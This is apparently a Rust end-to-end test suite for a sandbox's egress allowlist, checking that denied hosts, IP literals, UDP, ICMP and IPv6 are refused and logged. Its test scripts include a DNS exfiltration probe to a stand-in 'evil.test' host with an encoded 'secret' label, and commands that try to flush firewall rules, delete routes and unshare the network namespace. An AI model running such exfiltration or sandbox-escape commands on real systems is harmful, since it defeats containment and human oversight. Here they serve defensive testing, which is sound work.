//! Egress by name through the real `stockade run`: from inside the sandbox, against test servers
//! on the host's loopback (reached only through `--resolve` pins) and test hosts in network
//! namespaces this test makes (root only). The job report's `egress.events` is checked.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::atomic::{AtomicU32, AtomicUsize, Ordering};
use std::sync::{Arc, Condvar, Mutex};
use std::time::Duration;

use serde_json::Value;

const STOCKADE: &str = env!("CARGO_BIN_EXE_stockade");

fn is_root() -> bool {
    std::fs::read_to_string("/proc/self/status")
        .map(|s| {
            s.lines()
                .any(|l| l.starts_with("Uid:") && l.split_whitespace().nth(2) == Some("0"))
        })
        .unwrap_or(false)
}

macro_rules! require_root {
    () => {
        if !is_root() {
            eprintln!("SKIPPED: needs root (test host network namespaces, the sandbox as root)");
            return;
        }
    };
}

struct TempDir(PathBuf);
impl TempDir {
    fn new(tag: &str) -> TempDir {
        static N: AtomicU32 = AtomicU32::new(0);
        let p = std::env::temp_dir().join(format!(
            "stockade-egress-e2e-{tag}-{}-{}",
            std::process::id(),
            N.fetch_add(1, Ordering::SeqCst)
        ));
        std::fs::create_dir_all(&p).unwrap();
        TempDir(p)
    }
}
impl Drop for TempDir {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

/// HTTP/1.1 on 127.0.0.1: `/` says who it is and which Host it saw; `/bytes/N` streams N
/// bytes of 64 KiB blocks stamped with their index; `/status/N` answers status N; `/hold` answers once `hold` requests are
/// open at the same time and says how many were.
struct HttpServer {
    port: u16,
    connections: Arc<AtomicUsize>,
}

impl HttpServer {
    fn start(who: &str, hold: usize) -> HttpServer {
        let l = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = l.local_addr().unwrap().port();
        let connections = Arc::new(AtomicUsize::new(0));
        let conns = connections.clone();
        let who = who.to_string();
        let h = Arc::new((Mutex::new(0usize), Condvar::new()));
        std::thread::spawn(move || {
            for s in l.incoming().flatten() {
                conns.fetch_add(1, Ordering::SeqCst);
                let (who, h) = (who.clone(), h.clone());
                std::thread::spawn(move || {
                    let _ = serve(s, &who, hold, &h);
                });
            }
        });
        HttpServer { port, connections }
    }
}

fn serve(s: TcpStream, who: &str, hold: usize, h: &(Mutex<usize>, Condvar)) -> std::io::Result<()> {
    let mut r = BufReader::new(s.try_clone()?);
    let mut w = s;
    let mut line = String::new();
    r.read_line(&mut line)?;
    let path = line.split_whitespace().nth(1).unwrap_or("/").to_string();
    let mut host = String::new();
    loop {
        let mut l = String::new();
        if r.read_line(&mut l)? == 0 || l == "\r\n" {
            break;
        }
        if let Some(v) = l.to_ascii_lowercase().strip_prefix("host:") {
            host = v.trim().to_string();
        }
    }
    if let Some(n) = path.strip_prefix("/bytes/") {
        let n: u64 = n.parse().unwrap_or(0);
        write!(w, "HTTP/1.1 200 OK\r\nContent-Length: {n}\r\nConnection: close\r\n\r\n")?;
        let mut block: Vec<u8> = (0..1u32 << 16).map(|i| (i % 251) as u8).collect();
        let (mut i, mut index) = (0u64, 0u64);
        while i < n {
            block[..8].copy_from_slice(&index.to_le_bytes());
            let k = ((n - i) as usize).min(block.len());
            w.write_all(&block[..k])?;
            i += k as u64;
            index += 1;
        }
        return Ok(());
    }
    if let Some(code) = path.strip_prefix("/status/") {
        return write!(
            w,
            "HTTP/1.1 {code} Test\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
        );
    }
    let body = if path == "/hold" {
        let (m, cv) = h;
        let mut open = m.lock().unwrap();
        *open += 1;
        cv.notify_all();
        // A safety net against a hung test only; the test asserts on the count, not on time.
        let (open, _) = cv
            .wait_timeout_while(open, Duration::from_secs(120), |o| *o < hold)
            .unwrap();
        format!("held together={}\n", (*open).min(hold))
    } else {
        format!("hello from {who} (Host: {host})\n")
    };
    write!(
        w,
        "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
        body.len()
    )
}

/// `openssl s_server -www` on 127.0.0.1 with a self-signed certificate for the test names.
struct HttpsServer {
    port: u16,
    child: Child,
}

impl HttpsServer {
    fn start(dir: &Path) -> HttpsServer {
        let (cert, key) = (dir.join("cert.pem"), dir.join("key.pem"));
        let st = Command::new("openssl")
            .args(["req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256"])
            .args(["-nodes", "-days", "2", "-subj", "/CN=allowed.test"])
            .args(["-addext", "subjectAltName=DNS:allowed.test,DNS:denied.test"])
            .arg("-keyout")
            .arg(&key)
            .arg("-out")
            .arg(&cert)
            .stderr(Stdio::null())
            .status()
            .unwrap();
        assert!(st.success());
        let port = TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
        let mut child = Command::new("openssl")
            .args(["s_server", "-quiet", "-www", "-accept"])
            .arg(format!("127.0.0.1:{port}"))
            .arg("-cert")
            .arg(&cert)
            .arg("-key")
            .arg(&key)
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        for _ in 0..2000 {
            if TcpStream::connect(("127.0.0.1", port)).is_ok() {
                break;
            }
            assert!(child.try_wait().unwrap().is_none(), "openssl s_server exited");
            std::thread::sleep(Duration::from_millis(5));
        }
        HttpsServer { port, child }
    }
}

impl Drop for HttpsServer {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// A network namespace joined to the host by veth: host side 10.214.N.1 and fd00:214:N::1, test
/// host 10.214.N.2 and fd00:214:N::2. Its listeners are small perl programs (perl-base) that
/// print one line per contact.
struct TestHost {
    name: String,
    addr: String,
    addr6: String,
    servers: Vec<Child>,
}

fn ip(args: &[&str]) {
    let o = Command::new("ip").args(args).output().unwrap();
    assert!(
        o.status.success(),
        "ip {}: {}",
        args.join(" "),
        String::from_utf8_lossy(&o.stderr)
    );
}

impl TestHost {
    fn new() -> TestHost {
        static N: AtomicU32 = AtomicU32::new(0);
        let n = N.fetch_add(1, Ordering::SeqCst);
        let tag = format!("{}y{n}", std::process::id() % 100000);
        let name = format!("stkee{tag}");
        let (vh, vp) = (format!("seeh{tag}"), format!("seep{tag}"));
        let octet = 16 + (std::process::id() % 200 + n * 7) % 230;
        let addr = format!("10.214.{octet}.2");
        let addr6 = format!("fd00:214:{octet}::2");
        let _ = Command::new("ip").args(["netns", "del", &name]).output();
        ip(&["netns", "add", &name]);
        let th = TestHost {
            name: name.clone(),
            addr: addr.clone(),
            addr6: addr6.clone(),
            servers: Vec::new(),
        };
        ip(&["link", "add", &vh, "type", "veth", "peer", "name", &vp]);
        ip(&["link", "set", &vp, "netns", &name]);
        ip(&["addr", "add", &format!("10.214.{octet}.1/30"), "dev", &vh]);
        ip(&["link", "set", &vh, "up"]);
        ip(&["-n", &name, "addr", "add", &format!("{addr}/30"), "dev", &vp]);
        ip(&["-n", &name, "link", "set", &vp, "up"]);
        ip(&["-n", &name, "link", "set", "lo", "up"]);
        ip(&["-n", &name, "addr", "add", &format!("{addr6}/64"), "dev", &vp, "nodad"]);
        ip(&["addr", "add", &format!("fd00:214:{octet}::1/64"), "dev", &vh, "nodad"]);
        th
    }

    /// A TCP or UDP listener on the test host; returns its index for `contacts`.
    fn listen(&mut self, proto: &str, port: u16) -> usize {
        let at = format!("{}:{port}", self.addr);
        self.listen_at(proto, &at)
    }

    /// As `listen`, at any address of the test host (`[v6]:port`).
    fn listen_at(&mut self, proto: &str, at: &str) -> usize {
        let script = if proto == "tcp" {
            "use IO::Socket::IP; $|=1; my $l=IO::Socket::IP->new(LocalHost=>$ARGV[0],Proto=>'tcp',Listen=>64,ReuseAddr=>1) or die $!; print \"listening\\n\"; while (my $c=$l->accept) { print \"contact\\n\"; print $c \"test-host\\n\"; close $c }"
        } else {
            "use IO::Socket::IP; $|=1; my $l=IO::Socket::IP->new(LocalHost=>$ARGV[0],Proto=>'udp') or die $!; print \"listening\\n\"; while ($l->recv(my $d, 2048)) { print \"contact\\n\" }"
        };
        let mut c = Command::new("ip")
            .args(["netns", "exec", &self.name, "perl", "-e", script])
            .arg(at)
            .stdout(Stdio::piped())
            .spawn()
            .unwrap();
        let mut out = c.stdout.take().unwrap();
        let mut first = [0u8; 10];
        out.read_exact(&mut first).unwrap();
        assert_eq!(&first, b"listening\n");
        c.stdout = Some(out);
        self.servers.push(c);
        self.servers.len() - 1
    }

    /// Stops listener `i`; how many contacts it had.
    fn contacts(&mut self, i: usize) -> usize {
        let c = &mut self.servers[i];
        let _ = c.kill();
        let _ = c.wait();
        let mut s = String::new();
        if let Some(mut o) = c.stdout.take() {
            let _ = o.read_to_string(&mut s);
        }
        s.matches("contact").count()
    }
}

impl Drop for TestHost {
    fn drop(&mut self) {
        for c in &mut self.servers {
            let _ = c.kill();
            let _ = c.wait();
        }
        let _ = Command::new("ip").args(["netns", "del", &self.name]).output();
    }
}

struct Job {
    status: i32,
    stdout: String,
    stderr: String,
    report: Value,
}

impl Job {
    fn events(&self) -> Vec<&Value> {
        self.report["egress"]["events"]
            .as_array()
            .map(|a| a.iter().collect())
            .unwrap_or_default()
    }
    fn find(&self, want: &[(&str, &str)]) -> Vec<&Value> {
        self.events()
            .into_iter()
            .filter(|e| want.iter().all(|(k, v)| e[*k].as_str() == Some(*v)))
            .collect()
    }
}

impl std::fmt::Debug for Job {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(
            f,
            "exit {}\n--- stdout\n{}\n--- stderr\n{}\n--- report.egress\n{}",
            self.status,
            self.stdout,
            self.stderr,
            serde_json::to_string_pretty(&self.report["egress"]).unwrap()
        )
    }
}

/// `stockade run FLAGS --report R -- sh -c SCRIPT` with the workspace `ws`.
fn job(flags: &[String], ws: &Path, script: &str) -> Job {
    let report = ws.join("report.json");
    let out = Command::new(STOCKADE)
        .arg("run")
        .args(flags)
        .arg("--workspace")
        .arg(ws)
        .arg("--report")
        .arg(&report)
        .args(["--", "sh", "-c", script])
        .output()
        .unwrap();
    let report = std::fs::read_to_string(&report)
        .map(|t| serde_json::from_str(&t).unwrap())
        .unwrap_or(Value::Null);
    Job {
        status: out.status.code().unwrap_or(-1),
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
        report,
    }
}

fn flags(mode: &str, allow: &[String], pins: &[&str]) -> Vec<String> {
    let mut f = vec!["--egress".to_string(), mode.to_string()];
    for a in allow {
        f.push("--allow-domain".into());
        f.push(a.clone());
    }
    for p in pins {
        f.push("--resolve".into());
        f.push(format!("{p}=127.0.0.1"));
    }
    f
}

#[test]
fn allowed_name_works_through_proxy_variables_and_transparently() {
    require_root!();
    let ws = TempDir::new("allowed");
    let http = HttpServer::start("allowed", 0);
    let https = HttpsServer::start(&ws.0);
    let (h, s) = (http.port, https.port);
    let cert = ws.0.join("cert.pem");
    let cert = cert.display();
    let j = job(
        &flags(
            "allowlist",
            &[format!("allowed.test:{h}"), format!("allowed.test:{s}")],
            &["allowed.test"],
        ),
        &ws.0,
        &format!(
            "id -u; curl -sS http://allowed.test:{h}/; \
             curl -sS --noproxy '*' http://allowed.test:{h}/; \
             curl -sS -o /dev/null -w 'auth %{{http_code}}\\n' http://allowed.test:{h}/status/401; \
             curl -sS --cacert {cert} -o /dev/null -w 'https-proxy %{{http_code}}\\n' https://allowed.test:{s}/; \
             curl -sS --noproxy '*' --cacert {cert} -o /dev/null -w 'https-transparent %{{http_code}}\\n' https://allowed.test:{s}/"
        ),
    );
    assert_eq!(j.status, 0, "{j:?}");
    assert!(!j.stdout.starts_with("0\n"), "the job is not root: {j:?}");
    assert_eq!(
        j.stdout.matches("hello from allowed (Host: allowed.test").count(),
        2,
        "{j:?}"
    );
    assert!(j.stdout.contains("https-proxy 200"), "{j:?}");
    assert!(j.stdout.contains("https-transparent 200"), "{j:?}");
    for (via, proto) in [
        ("proxy-request", "http"),
        ("transparent", "http"),
        ("connect", "tls"),
        ("transparent", "tls"),
    ] {
        let ev: Vec<&Value> = j
            .find(&[
                ("via", via),
                ("protocol", proto),
                ("name", "allowed.test"),
                ("verdict", "allowed"),
            ])
            .into_iter()
            .filter(|e| e["http_status"] != 401)
            .collect();
        assert_eq!(ev.len(), 1, "{via} {proto}: {j:?}");
        assert!(ev[0]["bytes_down"].as_u64().unwrap() > 0, "{j:?}");
        // The job process behind it, in the supervisor's pid namespace.
        assert_eq!(ev[0]["comm"], "curl", "{j:?}");
        assert!(ev[0]["pid"].as_u64().unwrap() > 1, "{j:?}");
        let status = if proto == "http" { 200 } else { 0 };
        assert_eq!(ev[0]["http_status"].as_u64().unwrap_or(0), status, "{j:?}");
    }
    assert!(j.stdout.contains("auth 401"), "{j:?}");
    assert_eq!(
        j.find(&[("via", "proxy-request"), ("name", "allowed.test")])
            .iter()
            .filter(|e| e["http_status"] == 401)
            .count(),
        1,
        "upstream's status is in the report for the monitor: {j:?}"
    );
    assert!(j.stderr.contains("egress (allowlist):"), "summary on stderr: {j:?}");
}

#[test]
fn denied_name_is_refused_and_logged_and_shared_address_is_decided_by_name() {
    require_root!();
    let ws = TempDir::new("denied");
    let srv = HttpServer::start("shared", 0);
    let p = srv.port;
    let j = job(
        &flags(
            "allowlist",
            &[format!("allowed.test:{p}")],
            &["allowed.test", "denied.test"],
        ),
        &ws.0,
        &format!(
            "curl -sS http://allowed.test:{p}/; \
             curl -sS -o /dev/null -w 'denied-proxy %{{http_code}}\\n' http://denied.test:{p}/; \
             curl -sS --noproxy '*' http://denied.test:{p}/; echo denied-transparent-rc=$?; \
             getent hosts c2VjcmV0.evil.test; echo exfil-rc=$?"
        ),
    );
    assert!(j.stdout.contains("hello from shared (Host: allowed.test"), "{j:?}");
    assert!(j.stdout.contains("denied-proxy 403"), "{j:?}");
    assert!(j.stdout.contains("denied-transparent-rc=6"), "{j:?}");
    assert!(j.stdout.contains("exfil-rc=2"), "{j:?}");
    assert!(!j.stdout.contains("Host: denied.test"), "{j:?}");
    assert_eq!(
        j.find(&[
            ("via", "proxy-request"),
            ("name", "denied.test"),
            ("verdict", "refused")
        ])
        .len(),
        1,
        "{j:?}"
    );
    assert!(
        !j.find(&[("protocol", "dns"), ("name", "denied.test"), ("verdict", "refused")])
            .is_empty(),
        "{j:?}"
    );
    assert!(
        !j.find(&[
            ("protocol", "dns"),
            ("name", "c2vjcmv0.evil.test"),
            ("verdict", "refused")
        ])
        .is_empty(),
        "{j:?}"
    );
    assert!(j.stderr.contains("refused:"), "{j:?}");
}

#[test]
fn sni_differing_from_connect_host_is_refused() {
    require_root!();
    let ws = TempDir::new("sni");
    let https = HttpsServer::start(&ws.0);
    let s = https.port;
    let j = job(
        &flags("allowlist", &[format!("allowed.test:{s}")], &["allowed.test"]),
        &ws.0,
        &format!(
            "echo Q | openssl s_client -proxy 127.0.0.1:3128 -connect allowed.test:{s} -servername denied.test >/dev/null 2>&1; \
             echo Q | openssl s_client -proxy 127.0.0.1:3128 -connect allowed.test:{s} -servername allowed.test 2>/dev/null | grep -c 'BEGIN CERTIFICATE'"
        ),
    );
    assert!(j.stdout.trim_end().ends_with('1'), "{j:?}");
    let refused = j.find(&[("via", "connect"), ("verdict", "refused")]);
    assert_eq!(refused.len(), 1, "{j:?}");
    assert_eq!(
        refused[0]["rule"], "SNI \"denied.test\" differs from \"allowed.test\"",
        "{j:?}"
    );
    assert_eq!(refused[0]["bytes_up"], 0, "{j:?}");
}

#[test]
fn ip_literal_dns_over_tcp_and_udp_to_a_test_host_are_refused() {
    require_root!();
    let ws = TempDir::new("literal");
    let mut th = TestHost::new();
    let tcp = th.listen("tcp", 8080);
    let dns = th.listen("tcp", 53);
    let udp = th.listen("udp", 9999);
    let a = th.addr.clone();
    // A DNS query for denied.test over TCP, to the test host's address.
    let query = "\\000\\035\\022\\064\\001\\000\\000\\001\\000\\000\\000\\000\\000\\000\\006denied\\004test\\000\\000\\001\\000\\001";
    let j = job(
        &flags("allowlist", &["allowed.test".into()], &[]),
        &ws.0,
        &format!(
            "curl -sS --noproxy '*' -o /dev/null http://{a}:8080/; echo literal-rc=$?; \
             curl -sS -o /dev/null -w 'literal-proxy %{{http_code}}\\n' http://{a}:8080/; \
             perl -MIO::Socket::INET -e '$s=IO::Socket::INET->new(PeerAddr=>\"{a}:53\",Proto=>\"tcp\",Timeout=>5) or die \"dns-tcp connect failed\\n\"; print $s \"{query}\"; read($s,$l,2)==2 or die \"dns-tcp no answer\\n\"; read($s,$r,unpack(\"n\",$l)); printf \"dns-tcp rcode=%d\\n\", ord(substr($r,3,1))&15'; \
             perl -MIO::Socket::INET -e '$s=IO::Socket::INET->new(PeerAddr=>\"{a}:9999\",Proto=>\"udp\") or die \"udp socket: $!\\n\"; defined($s->send(\"x\")) ? print \"udp sent\\n\" : print \"udp send failed: $!\\n\"'"
        ),
    );
    assert!(!j.stdout.contains("literal-rc=0"), "{j:?}");
    assert!(j.stdout.contains("literal-proxy 403"), "{j:?}");
    // Stockade's resolver answered (NXDOMAIN = 3), not the test host.
    assert!(j.stdout.contains("dns-tcp rcode=3"), "{j:?}");
    assert!(j.stdout.contains("udp send failed"), "{j:?}");
    let lit = j.find(&[("verdict", "refused")]);
    assert!(
        lit.iter()
            .filter(|e| e["rule"].as_str().unwrap_or("").contains(&format!("IP literal {a}")))
            .count()
            >= 2,
        "{j:?}"
    );
    assert_eq!(
        j.find(&[("via", "dns-tcp"), ("name", "denied.test"), ("verdict", "refused")])
            .len(),
        1,
        "{j:?}"
    );
    assert_eq!(th.contacts(tcp), 0);
    assert_eq!(th.contacts(dns), 0);
    assert_eq!(th.contacts(udp), 0);
}

/// From one Python process inside the sandbox: UDP and an ICMP echo (ping) to the test host,
/// IPv6 UDP, and IPv6 TCP with HTTP naming a denied host; then two refused DNS questions, whose
/// answers wait for their own process lookups, queued behind those of the packets sent before
/// (so the process still holds the packets' sockets when they are looked up).
const PACKET_PROBE: &str = r#"
import socket, sys
a, a6, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
def attempt(what, f):
    try:
        f()
        print(what, "sent")
    except OSError as e:
        print(what, "failed:", e.strerror)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
attempt("udp", lambda: u.sendto(b"x", (a, 9999)))
p = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
attempt("ping", lambda: p.sendto(b"\x08\x00\x00\x00\x12\x34\x00\x01", (a, 0)))
u6 = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
attempt("udp6", lambda: u6.sendto(b"x", (a6, 9999)))
t6 = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
t6.settimeout(10)
t6.connect((a6, port))
t6.sendall(b"GET / HTTP/1.1\r\nHost: denied.test\r\n\r\n")
print("tcp6 got", t6.recv(4096))
for _ in range(2):
    try:
        socket.getaddrinfo("denied.test", 80, socket.AF_INET)
    except OSError:
        pass
"#;

#[test]
fn udp_ping_and_ipv6_from_the_sandbox_are_refused_and_logged() {
    require_root!();
    let ws = TempDir::new("packets");
    let mut th = TestHost::new();
    let udp = th.listen("udp", 9999);
    let tcp6 = th.listen_at("tcp", &format!("[{}]:8080", th.addr6));
    let udp6 = th.listen_at("udp", &format!("[{}]:9999", th.addr6));
    let (a, a6) = (th.addr.clone(), th.addr6.clone());
    let j = job(
        &flags("allowlist", &["allowed.test".into()], &[]),
        &ws.0,
        &format!("python3 -c '{PACKET_PROBE}' {a} {a6} 8080"),
    );
    for line in [
        "udp failed: Operation not permitted",
        "ping failed: Operation not permitted",
        "udp6 failed: Operation not permitted",
        "tcp6 got b''",
    ] {
        assert!(j.stdout.contains(line), "{line}: {j:?}");
    }
    for (via, protocol, target, rule) in [
        (
            "firewall",
            "udp",
            format!("{a}:9999"),
            "UDP other than DNS is refused".to_string(),
        ),
        ("firewall", "icmp", format!("{a}:0"), "ICMP is refused".into()),
        ("firewall", "udp", format!("[{a6}]:9999"), "IPv6 UDP is refused".into()),
        (
            "transparent",
            "http",
            format!("[{a6}]:8080"),
            "name not in allowlist".into(),
        ),
    ] {
        let ev = j.find(&[("via", via), ("protocol", protocol), ("client_target", &target)]);
        assert_eq!(ev.len(), 1, "{protocol} {target}: {j:?}");
        assert_eq!(ev[0]["verdict"], "refused", "{j:?}");
        assert_eq!(ev[0]["rule"], rule, "{j:?}");
        assert!(ev[0]["comm"].as_str().unwrap().starts_with("python"), "{j:?}");
        assert!(ev[0]["pid"].as_u64().unwrap() > 1, "{j:?}");
    }
    assert!(j.stderr.contains(&format!("icmp {a}")), "{j:?}");
    assert_eq!(th.contacts(udp), 0);
    assert_eq!(th.contacts(tcp6), 0);
    assert_eq!(th.contacts(udp6), 0);
}

#[test]
fn the_job_cannot_undo_egress() {
    require_root!();
    let ws = TempDir::new("undo");
    let mut th = TestHost::new();
    let tcp = th.listen("tcp", 8080);
    let a = th.addr.clone();
    let j = job(
        &flags("allowlist", &["allowed.test".into()], &[]),
        &ws.0,
        &format!(
            "nft flush ruleset; echo nft-rc=$?; ip route del default; echo route-rc=$?; \
             unshare -rn true; echo unshare-rc=$?; \
             perl -MIO::Socket::INET -e '$s=IO::Socket::INET->new(PeerAddr=>\"{a}:8080\",Proto=>\"tcp\",Timeout=>3); $s && print $s \"hello\\n\"; $l=$s ? <$s> : undef; print defined($l) && $l eq \"test-host\\n\" ? \"reached\\n\" : \"not reached\\n\"'"
        ),
    );
    for step in ["nft-rc=0", "route-rc=0", "unshare-rc=0"] {
        assert!(!j.stdout.contains(step), "{step}: {j:?}");
    }
    // (Connecting succeeds: the proxy accepts, then refuses; what matters is that the test
    // host is never reached.)
    assert!(j.stdout.contains("not reached"), "{j:?}");
    assert_eq!(th.contacts(tcp), 0);
}

#[test]
fn audit_mode_allows_and_flags() {
    require_root!();
    let ws = TempDir::new("audit");
    let srv = HttpServer::start("audited", 0);
    let p = srv.port;
    let j = job(
        &flags(
            "audit",
            &[format!("allowed.test:{p}")],
            &["allowed.test", "denied.test"],
        ),
        &ws.0,
        &format!("curl -sS http://denied.test:{p}/; curl -sS --noproxy '*' http://denied.test:{p}/"),
    );
    assert_eq!(
        j.stdout.matches("hello from audited (Host: denied.test").count(),
        2,
        "{j:?}"
    );
    let flagged = j.find(&[("name", "denied.test"), ("verdict", "flagged")]);
    assert!(flagged.len() >= 3, "proxy, transparent, DNS: {j:?}");
    assert!(j.find(&[("verdict", "refused")]).is_empty(), "{j:?}");
    assert!(srv.connections.load(Ordering::SeqCst) >= 2);
}

#[test]
fn one_gib_download_is_byte_exact_and_200_connections_are_served() {
    require_root!();
    const N: u64 = 1 << 30;
    const PAR: usize = 200;
    let ws = TempDir::new("bulk");
    let bulk = HttpServer::start("bulk", 0);
    let hold = HttpServer::start("hold", PAR);
    let direct = Command::new("sh")
        .arg("-c")
        .arg(format!(
            "curl -sS --noproxy '*' http://127.0.0.1:{}/bytes/{N} | sha256sum",
            bulk.port
        ))
        .output()
        .unwrap();
    let want = String::from_utf8_lossy(&direct.stdout)
        .split_whitespace()
        .next()
        .unwrap()
        .to_string();
    assert_eq!(want.len(), 64);
    let j = job(
        &flags(
            "allowlist",
            &[format!("bulk.test:{}", bulk.port), format!("hold.test:{}", hold.port)],
            &["bulk.test", "hold.test"],
        ),
        &ws.0,
        &format!(
            "curl -sS http://bulk.test:{b}/bytes/{N} | sha256sum; \
             curl -sS -Z --parallel-immediate --parallel-max {PAR} $(for i in $(seq {PAR}); do echo http://hold.test:{h}/hold; done)",
            b = bulk.port,
            h = hold.port
        ),
    );
    assert!(j.stdout.contains(&want), "byte-exact: {j:?}");
    assert_eq!(
        j.stdout.matches(&format!("held together={PAR}\n")).count(),
        PAR,
        "{j:?}"
    );
    assert_eq!(
        j.find(&[("name", "hold.test"), ("via", "proxy-request"), ("verdict", "allowed")])
            .len(),
        PAR
    );
}
